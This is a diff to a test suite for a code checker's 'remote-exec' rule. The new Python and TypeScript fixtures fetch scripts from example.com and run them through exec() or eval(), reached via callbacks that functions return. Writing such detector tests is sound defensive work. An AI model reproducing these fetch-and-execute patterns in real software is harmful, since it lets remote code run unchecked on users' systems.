@@ -1,4 +1,4 @@
-/** What functions are handed: behind an error, by a table of handlers, by an event, and elements that scripts make. */
+/** What functions are handed: behind an error, by a table of handlers, by an event, by who made them, and elements that scripts make. */
 
 import { checksOf } from '../kit/check.ts';
 
@@ -156,6 +156,41 @@ describe('modules', () => {
       await import(\`adapter-\${process.env.ADAPTER}\`);
       await import(process.env.ADAPTER);
                    ^^^^^^^^^^^^^^^^^^^ dynamic-import
+    `;
+  });
+});
+
+describe('what functions that functions make are handed', () => {
+  const { python, typescript } = checksOf('remote-exec');
+
+  it('counts in a function that a function makes', () => {
+    python`
+      import requests
+      def on_done(callback):
+          return lambda data: callback(data.decode())
+      def apply(text):
+          exec(text)
+               ^^^^ remote-exec
+      handler = on_done(apply)
+      handler(requests.get("https://example.com/a.py").content)
+      def runner():
+          def run(text):
+              exec(text)
+                   ^^^^ remote-exec
+          return run
+      runner()(requests.get("https://example.com/b.py").text)
+    `;
+  });
+
+  it('counts in an arrow that an arrow makes', () => {
+    typescript`
+      const onDone = (callback: (text: string) => void) => (data: string) => callback(data.trim());
+      function apply(text: string) {
+        eval(text);
+             ^^^^ remote-exec
+      }
+      const handler = onDone(apply);
+      handler(await (await fetch("https://example.com/a.js")).text());
     `;
   });
 });
